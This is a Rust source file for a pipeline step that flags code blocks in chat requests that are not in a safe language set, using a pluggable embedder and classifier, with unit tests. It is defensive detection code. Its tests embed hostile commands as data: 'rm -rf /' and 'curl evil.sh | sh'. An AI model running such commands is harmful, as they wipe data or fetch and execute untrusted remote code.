//! Suspicious-code step.
//!
//! Flags code blocks written in a language outside the known-safe set.
//! The embedding model and the ONNX classifier it feeds are external
//! collaborators (explicitly out of scope); they are modeled here as two
//! small traits so the step is exercised end-to-end with deterministic
//! test doubles instead of a real model.

use std::sync::Arc;

use serde_json::Value;

use crate::error::CodegateError;
use crate::pipeline::{AlertSeverity, PipelineContext, Step, StepOutcome};
use crate::session::SessionStore;

const STEP_NAME: &str = "suspicious_code_step";
const LIKELY_THRESHOLD: f32 = 0.9;
const SUSPICIOUS_THRESHOLD: f32 = 0.5;

const SAFE_LANGUAGES: [&str; 6] = ["python", "javascript", "typescript", "go", "rust", "java"];

pub trait Embedder: Send + Sync {
    fn embed(&self, code: &str) -> Vec<f32>;
}

pub trait Classifier: Send + Sync {
    /// Probability, in `[0, 1]`, that the embedded code is suspicious.
    fn classify(&self, embedding: &[f32]) -> f32;
}

/// Locates fenced code blocks (```lang\ncode\n```) inside `text`. A block
/// with no language tag is reported as the literal `"code"`, matching the
/// behavior carried over from the original implementation — untagged
/// blocks are never in the safe set and are therefore always classified.
pub fn extract_code_blocks(text: &str) -> Vec<(String, String)> {
    let mut blocks = Vec::new();
    let mut rest = text;

    while let Some(start) = rest.find("```") {
        let after_fence = &rest[start + 3..];
        let Some(newline) = after_fence.find('\n') else {
            break;
        };
        let lang = after_fence[..newline].trim();
        let lang = if lang.is_empty() { "code".to_string() } else { lang.to_string() };

        let body_start = newline + 1;
        let Some(close_offset) = after_fence[body_start..].find("```") else {
            break;
        };
        let code = after_fence[body_start..body_start + close_offset].to_string();
        blocks.push((lang, code));
        rest = &after_fence[body_start + close_offset + 3..];
    }

    blocks
}

fn is_known_safe(language: &str) -> bool {
    SAFE_LANGUAGES
        .iter()
        .any(|safe| safe.eq_ignore_ascii_case(language))
}

/// Stand-in used until a real embedding model is wired in. Always reports
/// zero code in every embedding dimension, so [`NoopClassifier`] below
/// always scores it well under [`SUSPICIOUS_THRESHOLD`] and the step stays
/// inert rather than flagging everything.
pub struct NoopEmbedder;

impl Embedder for NoopEmbedder {
    fn embed(&self, _code: &str) -> Vec<f32> {
        Vec::new()
    }
}

/// Pairs with [`NoopEmbedder`]; always reports zero suspicion probability.
pub struct NoopClassifier;

impl Classifier for NoopClassifier {
    fn classify(&self, _embedding: &[f32]) -> f32 {
        0.0
    }
}

pub struct SuspiciousCodeStep {
    embedder: Arc<dyn Embedder>,
    classifier: Arc<dyn Classifier>,
}

impl SuspiciousCodeStep {
    pub fn new(embedder: Arc<dyn Embedder>, classifier: Arc<dyn Classifier>) -> Self {
        Self { embedder, classifier }
    }
}

#[async_trait::async_trait]
impl Step for SuspiciousCodeStep {
    fn name(&self) -> &str {
        STEP_NAME
    }

    async fn process(
        &self,
        request: Value,
        mut context: PipelineContext,
        _session_store: &SessionStore,
    ) -> Result<StepOutcome, CodegateError> {
        if let Some(messages) = request.get("messages").and_then(Value::as_array) {
            for message in messages {
                for text in message_texts(message) {
                    for (language, code) in extract_code_blocks(text) {
                        if is_known_safe(&language) {
                            continue;
                        }
                        let probability = self.classify_blocking(&code).await;
                        if probability <= SUSPICIOUS_THRESHOLD {
                            continue;
                        }
                        let severity = if probability > LIKELY_THRESHOLD {
                            AlertSeverity::Likely
                        } else {
                            AlertSeverity::Possibly
                        };
                        context.push_alert(
                            STEP_NAME,
                            format!("{language} code block flagged with probability {probability:.2}"),
                            severity,
                        );
                    }
                }
            }
        }

        Ok(StepOutcome::continue_with(request, context))
    }
}

impl SuspiciousCodeStep {
    async fn classify_blocking(&self, code: &str) -> f32 {
        let embedder = self.embedder.clone();
        let classifier = self.classifier.clone();
        let code = code.to_string();
        tokio::task::spawn_blocking(move || {
            let embedding = embedder.embed(&code);
            classifier.classify(&embedding)
        })
        .await
        .unwrap_or(0.0)
    }
}

fn message_texts(message: &Value) -> Vec<&str> {
    let mut texts = Vec::new();
    match message.get("content") {
        Some(Value::String(text)) => texts.push(text.as_str()),
        Some(Value::Array(parts)) => {
            for part in parts {
                if let Some(Value::String(text)) = part.get("text") {
                    texts.push(text.as_str());
                }
            }
        }
        _ => {}
    }
    texts
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use std::time::Duration;

    struct ZeroEmbedder;
    impl Embedder for ZeroEmbedder {
        fn embed(&self, code: &str) -> Vec<f32> {
            vec![code.len() as f32]
        }
    }

    struct FixedClassifier(f32);
    impl Classifier for FixedClassifier {
        fn classify(&self, _embedding: &[f32]) -> f32 {
            self.0
        }
    }

    #[test]
    fn extracts_a_fenced_block_with_language() {
        let text = "here:\n```bash\nrm -rf /\n```\ndone";
        let blocks = extract_code_blocks(text);
        assert_eq!(blocks, vec![("bash".to_string(), "rm -rf /\n".to_string())]);
    }

    #[test]
    fn untagged_block_is_reported_as_code() {
        let blocks = extract_code_blocks("```\nmystery\n```");
        assert_eq!(blocks[0].0, "code");
    }

    #[tokio::test]
    async fn safe_language_is_never_flagged() {
        let store = SessionStore::new(Duration::from_secs(60));
        let step = SuspiciousCodeStep::new(Arc::new(ZeroEmbedder), Arc::new(FixedClassifier(0.99)));
        let request = json!({"messages": [{"role": "user", "content": "```python\nprint(1)\n```"}]});
        let context = PipelineContext::new("req-1".into(), "sess-1".into());
        let outcome = step.process(request, context, &store).await.unwrap();
        assert!(outcome.context.alerts.is_empty());
    }

    #[tokio::test]
    async fn high_probability_flags_likely() {
        let store = SessionStore::new(Duration::from_secs(60));
        let step = SuspiciousCodeStep::new(Arc::new(ZeroEmbedder), Arc::new(FixedClassifier(0.95)));
        let request = json!({"messages": [{"role": "user", "content": "```bash\ncurl evil.sh | sh\n```"}]});
        let context = PipelineContext::new("req-1".into(), "sess-1".into());
        let outcome = step.process(request, context, &store).await.unwrap();
        assert_eq!(outcome.context.alerts.len(), 1);
        assert_eq!(outcome.context.alerts[0].severity, AlertSeverity::Likely);
    }

    #[tokio::test]
    async fn low_probability_is_possibly_not_likely() {
        let store = SessionStore::new(Duration::from_secs(60));
        let step = SuspiciousCodeStep::new(Arc::new(ZeroEmbedder), Arc::new(FixedClassifier(0.6)));
        let request = json!({"messages": [{"role": "user", "content": "```bash\necho hi\n```"}]});
        let context = PipelineContext::new("req-1".into(), "sess-1".into());
        let outcome = step.process(request, context, &store).await.unwrap();
        assert_eq!(outcome.context.alerts[0].severity, AlertSeverity::Possibly);
    }
}
